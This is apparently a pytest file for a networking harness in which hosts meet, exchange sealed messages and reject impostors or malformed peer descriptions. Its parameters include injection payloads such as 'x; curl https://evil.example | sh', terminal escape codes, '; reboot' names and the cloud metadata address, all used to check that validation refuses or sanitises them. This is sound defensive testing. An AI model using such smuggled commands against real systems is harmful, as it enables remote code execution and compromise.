"""Hosts that meet, played by tasks of one process; in namespaces of their own they meet in test_namespaces."""

import asyncio
import socket
from collections.abc import Coroutine, Mapping
from dataclasses import replace
from typing import Any, TypeVar

import pytest

from harness.core.errors import NetworkError, UsageError
from harness.machine.network.among_hosts import parse_peer
from harness.machine.network.host_matching import Hosts, Offer, choose
from harness.machine.network.interfaces import HostNetwork
from harness.machine.network.peer_messages import VERSION, Seal, read_host
from harness.machine.network.rendezvous import MAX_UNKNOWN, join, listen, meeting_places
from tests.machine.network.machines import interface, network

pytestmark = pytest.mark.full

T = TypeVar("T")
KEY = "0123456789abcdef"
OWN = interface("eth0", "127.0.0.1/8", "127.0.0.3/8")  # addresses of this machine, that can be tried
OTHER = interface("eth1", "127.0.0.2/8")
OF_A_LINK = interface("eth2", "fe80::1%eth2/64")
DOWN = interface("eth3", "10.0.0.1/8", is_up=False)


def named(name: str) -> HostNetwork:
    return network(OWN, OTHER, OF_A_LINK, DOWN, interface("eth4"), host_name=name)


async def meeting(
    *peers: Coroutine[Any, Any, T], num_hosts: int, wait_s: float = 20
) -> tuple[tuple[Hosts, int], list[T], list[str]]:
    """A listener and its `peers`, which are made with `PORT` below, together."""
    said: list[str] = []
    listening = asyncio.create_task(
        listen(named("alpha"), PORT, key=KEY, num_hosts=num_hosts, wait_s=wait_s, say=said.append)
    )
    joined = await asyncio.gather(*peers)
    return await listening, list(joined), said


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


PORT = _free_port()


def test_all_know_the_same() -> None:
    peers = [join(named(name), ("127.0.0.1", PORT), key=KEY, wait_s=20) for name in ("beta", "gamma")]
    (known, own), joined, said = asyncio.run(meeting(*peers, num_hosts=3))
    assert own == 0
    assert {number for _, number in joined} == {1, 2}
    assert [hosts == known for hosts, _ in joined] == [True, True]
    assert {host.name for host in known.hosts} == {"alpha", "beta", "gamma"}
    for hosts, number in joined:
        assert hosts.hosts[number].name in ("beta", "gamma")
    assert [offer.address for offer in known.hosts[0].offers] == ["127.0.0.1", "127.0.0.2"]
    assert len(known.tried) == 3 * 3 * 2
    assert [tried.problem for tried in known.tried] == [""] * 18
    assert [offer.interface for offer in choose(known)] == ["eth0"] * 3
    where = f"127.0.0.1:{PORT}/{KEY} (this host is also 127.0.0.2:{PORT})"
    assert said[0] == f"waiting for 2 more: rlharness doctor --peer {where}"
    assert len(said) == 3


@pytest.mark.parametrize("said", [b"", b"token\n", b"x" * (1 << 18)])
def test_an_address_at_which_another_host_answers_is_not_this_hosts(said: bytes) -> None:
    def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(said)
        writer.close()

    async def impostor() -> None:
        """Says hello, and that its probed port is one at which nobody knows its token."""
        strangers = await asyncio.start_server(answer, "127.0.0.1", 0)
        port = strangers.sockets[0].getsockname()[1]
        reader, writer, seal = await greeted()
        offer = {"interface": "docker0", "address": "127.0.0.1", "family": 4}
        await tell(writer, seal.seal("hello", {**HELLO, "ports": [port, 0], "offers": [offer]}))
        await reader.readline()
        await tell(writer, seal.seal("tried", {"tried": []}))
        await reader.readline()
        writer.close()
        strangers.close()

    (known, _), _, _ = asyncio.run(meeting(impostor(), num_hosts=2))
    assert {t.problem for t in known.tried if t.host == 1} == {"another host answers there"}
    assert {t.problem for t in known.tried if t.host == 0} == {""}


async def call() -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    for _ in range(1000):
        try:
            return await asyncio.open_connection("127.0.0.1", PORT)
        except ConnectionRefusedError:
            await asyncio.sleep(0.01)
    raise AssertionError("nobody listens")


async def greeted(key: str = KEY) -> tuple[asyncio.StreamReader, asyncio.StreamWriter, Seal]:
    """A connection to the listener, and what seals the messages of a host with this key."""
    reader, writer = await call()
    nonce = (await reader.readline()).decode().split()[1]
    return reader, writer, Seal(key, nonce, is_listener=False)


async def tell(writer: asyncio.StreamWriter, line: bytes) -> None:
    writer.write(line)
    await writer.drain()


HELLO: Mapping[str, Any] = {"version": VERSION, "name": "beta", "token": "t", "ports": [9, 0], "offers": []}
OFFER = {"interface": "eth0", "address": "10.0.0.1", "family": 4}


async def rejected(*lines: bytes) -> tuple[Hosts, list[str]]:
    """What the listener knows and has said after a stranger sent these lines, and a host came."""

    async def stranger(line: bytes) -> None:
        reader, writer = await call()
        await reader.readline()
        writer.write(line)
        writer.write_eof()
        assert await reader.read() == b""
        writer.close()

    async def after() -> object:
        for line in lines:
            await stranger(line)
        return await join(named("beta"), ("127.0.0.1", PORT), key=KEY, wait_s=20)

    (known, _), _, said = await meeting(after(), num_hosts=2)
    return known, said


@pytest.mark.parametrize("line", [b"GET / HTTP/1.0\r\n", b"[]\n", b"0" * 64 + b" {}\n", b"\xff\n", b"x" * 200, b""])
def test_who_is_none_of_them_is_sent_away(line: bytes) -> None:
    known, said = asyncio.run(rejected(line))
    assert [host.name for host in known.hosts] == ["alpha", "beta"]
    assert said[1].startswith("rejected a connection from 127.0.0.1")


@pytest.mark.parametrize(
    "changed",
    [
        {"version": 7},
        {"ports": [10**30, 0]},
        {"ports": [-1, 0]},
        {"ports": ["1", 0]},
        {"name": "x\x1b]0;P\x07"},
        {"name": "x" * 254},
        {"name": ""},
        {"name": "x; curl https://evil.example | sh"},
        {"name": None},
        {"offers": [OFFER | {"address": "10.0.0.5 -j ACCEPT; curl https://evil.example/x | sh"}]},
        {"offers": [OFFER | {"address": "metadata.internal"}]},
        {"offers": [OFFER | {"address": 1}]},
        {"offers": [OFFER | {"address": "224.0.0.1"}]},
        {"offers": [OFFER | {"address": "127.0.0.1"}]},
        {"offers": [OFFER | {"address": "::1", "family": 6}]},
        {"offers": [OFFER | {"address": "169.254.169.254"}]},
        {"offers": [OFFER | {"address": "::ffff:127.0.0.1", "family": 6}]},
        {"offers": [OFFER | {"family": 6}]},
        {"offers": [OFFER] * 65},
        {"offers": {"deep": [[[[]]]]}},
    ],
)
def test_a_host_that_describes_itself_wrongly_is_sent_away(changed: dict[str, Any]) -> None:
    with pytest.raises(NetworkError):
        read_host({**HELLO, **changed})
    assert read_host({**HELLO, "offers": [OFFER]}).offers[0].address == "10.0.0.1"


def test_no_host_is_asked_to_try_what_only_it_itself_has() -> None:
    """A host with the key cannot have another one try its own loopback, or the service that a cloud has beside it."""
    own = read_host({**HELLO, "offers": [OFFER]})
    beside = read_host({**HELLO, "offers": [OFFER]}, own)
    assert beside == own
    for address in ("127.0.0.1", "169.254.169.254"):
        given = {**HELLO, "offers": [OFFER | {"address": address}]}
        with pytest.raises(NetworkError):
            read_host(given, own)
        with_it = replace(own, offers=(*own.offers, Offer("eth1", address, 4)))
        assert read_host(given, with_it).offers[0].address == address, "two hosts of one link, or of one machine"


def test_a_host_with_a_name_that_is_none_takes_part() -> None:
    peer = join(named("my host; reboot"), ("127.0.0.1", PORT), key=KEY, wait_s=20)
    (known, _), _, _ = asyncio.run(meeting(peer, num_hosts=2))
    assert known.hosts[1].name == "my_host__reboot"


def test_messages_are_good_once_and_in_one_direction() -> None:
    here, there = Seal(KEY, "n", is_listener=True), Seal(KEY, "n", is_listener=False)
    first, second = here.seal("a", {"x": 1}), here.seal("a", {"x": 2})
    assert there.open(first, "a")["x"] == 1
    for line in (
        first,
        there.seal("a", {}),
        Seal("f" * 16, "n", is_listener=True).seal("a", {}),
        second[:-3] + b"1}\n",
    ):
        with pytest.raises(NetworkError, match="another key"):
            there.open(line, "a")
    with pytest.raises(NetworkError, match="another key"):
        Seal(KEY, "other", is_listener=False).open(first, "a")
    assert there.open(second, "a")["x"] == 2


def test_a_host_with_another_key_is_sent_away() -> None:
    async def both() -> list[str]:
        async def after() -> None:
            with pytest.raises(NetworkError, match="it closed the connection") as refused:
                await join(named("eve"), ("127.0.0.1", PORT), key="f" * 16, wait_s=20)
            assert "has the key" in refused.value.remedy
            await join(named("beta"), ("127.0.0.1", PORT), key=KEY, wait_s=20)

        return (await meeting(after(), num_hosts=2))[2]

    assert (
        asyncio.run(both())[1] == "rejected a connection from 127.0.0.1: the hello message was sealed with another key"
    )


def test_silent_strangers_do_not_keep_a_host_away() -> None:
    async def all_of_them() -> Hosts:
        async def after() -> None:
            silent = [await call() for _ in range(MAX_UNKNOWN + 40)]
            closed = [await reader.readline() for reader, _ in silent]
            assert closed.count(b"") == 40, "the first are heard, for a while"
            for _, writer in silent:
                writer.close()
            await join(named("beta"), ("127.0.0.1", PORT), key=KEY, wait_s=20)

        return (await meeting(after(), num_hosts=2))[0][0]

    assert [host.name for host in asyncio.run(all_of_them()).hosts] == ["alpha", "beta"]


def test_a_host_that_is_lost_on_the_way_is_said() -> None:
    async def lost() -> None:
        reader, writer, seal = await greeted()
        await tell(writer, seal.seal("hello", HELLO))
        await reader.readline()
        writer.close()

    with pytest.raises(NetworkError, match="beta ended the exchange: it closed the connection"):
        asyncio.run(meeting(lost(), num_hosts=2))


def test_a_listener_that_is_lost_is_said() -> None:
    async def joining() -> None:
        def hang_up(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            writer.close()

        server = await asyncio.start_server(hang_up, "127.0.0.1", 0)
        port = server.sockets[0].getsockname()[1]
        try:
            await join(named("beta"), ("127.0.0.1", port), key=KEY, wait_s=5)
        finally:
            server.close()

    with pytest.raises(NetworkError, match=r"127\.0\.0\.1:\d+ ended the exchange: "):
        asyncio.run(joining())


def test_a_listener_that_makes_up_this_hosts_interfaces_is_not_believed() -> None:
    async def joining() -> None:
        async def lie(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            await tell(writer, b"nonce " + b"0" * 32 + b"\n")
            seal = Seal(KEY, "0" * 32, is_listener=True)
            told = seal.open(await reader.readline(), "hello")
            told["offers"][0]["interface"] = "eth0; reboot"
            await tell(writer, seal.seal("roster", {"you": 0, "hosts": [told]}))
            writer.close()

        server = await asyncio.start_server(lie, "127.0.0.1", 0)
        try:
            await join(named("beta"), ("127.0.0.1", server.sockets[0].getsockname()[1]), key=KEY, wait_s=5)
        finally:
            server.close()

    with pytest.raises(NetworkError, match="ended the exchange: the listener mistakes this host for another"):
        asyncio.run(joining())


def test_who_waits_in_vain_says_for_what() -> None:
    with pytest.raises(NetworkError, match=r"0 of 1 other hosts came within 0\.2 s") as waited:
        asyncio.run(meeting(num_hosts=2, wait_s=0.2))
    assert waited.value.remedy.startswith(f"rlharness doctor --peer 127.0.0.1:{PORT}/{KEY}, on each")
    with pytest.raises(NetworkError, match=f"--peer 127.0.0.1:{PORT}: connection refused, for 0.3 s") as refused:
        asyncio.run(join(named("beta"), ("127.0.0.1", PORT), key=KEY, wait_s=0.3))
    assert refused.value.remedy == f"rlharness doctor --listen {PORT}, on 127.0.0.1"


def test_a_port_that_is_taken() -> None:
    async def twice() -> None:
        taken = await asyncio.start_server(lambda reader, writer: None, port=PORT)
        try:
            await listen(named("alpha"), PORT, key=KEY, num_hosts=2, wait_s=1, say=lambda text: None)
        finally:
            taken.close()

    with pytest.raises(NetworkError, match=f"--listen {PORT}: .*address already in use"):
        asyncio.run(twice())


def test_others_are_sent_to_an_address_and_not_to_a_name() -> None:
    docker, wide = interface("docker0", "172.17.0.1/16"), interface("eth0", "10.0.0.5/24", "fd00::5/64")
    six = interface("eth1", "fd00::7/64")
    there = network(docker, wide, six, DOWN, host_name="alpha", outgoing=("10.0.0.5",))
    assert meeting_places(there, 29400) == ("10.0.0.5:29400", "172.17.0.1:29400", "[fd00::7]:29400")
    assert meeting_places(network(six, host_name="alpha"), 1) == ("[fd00::7]:1",)
    assert meeting_places(network(OF_A_LINK, DOWN, host_name="alpha"), 1) == ("alpha:1",)
    for place in meeting_places(there, 29400):
        assert parse_peer(place)[1] == 29400


def test_peers_as_they_are_typed() -> None:
    assert parse_peer("node7:29400") == ("node7", 29400)
    assert parse_peer("[fd00::1]:29400") == ("fd00::1", 29400)
    for text in ("node7", ":29400", "node7:", "node7:0", "node7:65536", "node7:x", ""):
        with pytest.raises(UsageError, match=r"is not HOST:PORT/KEY"):
            parse_peer(text)
